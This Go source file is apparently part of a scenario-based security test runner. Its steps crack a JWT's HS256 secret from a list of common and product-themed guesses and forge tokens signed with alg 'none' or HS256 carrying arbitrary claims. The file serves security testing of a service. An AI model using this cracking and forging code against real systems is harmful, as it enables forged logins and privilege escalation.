package harbour

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"strings"
)

// Crack guesses the secret of an HS256 token offline, from a short word list.
type Crack struct {
	Token string `yaml:"token"`
	Save  string `yaml:"save"`
}

// Forge makes a token.
type Forge struct {
	Alg    string `yaml:"alg"` // none or HS256
	Secret string `yaml:"secret"`
	Claims string `yaml:"claims"` // JSON
	Save   string `yaml:"save"`
}

// guesses are secrets that every word list begins with, and what a look at the product suggests.
var guesses = []string{
	"secret", "password", "changeme", "admin", "123456", "jwt", "jwtsecret", "your-256-bit-secret", "supersecret",
	"test", "dev", "default", "key", "letmein", "qwerty", "token", "hunter2", "harbour", "harbor", "parcel",
	"delivery", "tracking", "secret123", "harbour123", "parcel123", "tracking123",
}

func (r *run) crack(step Step) error {
	token, err := r.text(step.Crack.Token)
	if err != nil {
		return err
	}
	signed, signature, ok := cutLast(token, ".")
	if !ok {
		return fmt.Errorf("%w: %q is not a token", ErrSetup, token)
	}
	for _, guess := range guesses {
		if sign(signed, guess) == signature {
			r.vars[step.Crack.Save] = guess
			return nil
		}
	}
	r.refusedAt = step.Name
	r.stopped = fmt.Sprintf("%s: none of %d common secrets made the signature", step.Name, len(guesses))
	return errStopped
}

func (r *run) forge(step Step) error {
	claims, err := r.text(step.Forge.Claims)
	if err != nil {
		return err
	}
	secret, err := r.text(step.Forge.Secret)
	if err != nil {
		return err
	}
	part := base64.RawURLEncoding.EncodeToString
	signed := part([]byte(fmt.Sprintf(`{"alg":%q,"typ":"JWT"}`, step.Forge.Alg))) + "." + part([]byte(claims))
	signature := ""
	if step.Forge.Alg == "HS256" {
		signature = sign(signed, secret)
	}
	r.vars[step.Forge.Save] = signed + "." + signature
	return nil
}

func sign(signed, secret string) string {
	mac := hmac.New(sha256.New, []byte(secret))
	mac.Write([]byte(signed))
	return base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
}

func cutLast(text, sep string) (before, after string, ok bool) {
	i := strings.LastIndex(text, sep)
	if i < 0 {
		return text, "", false
	}
	return text[:i], text[i+len(sep):], true
}
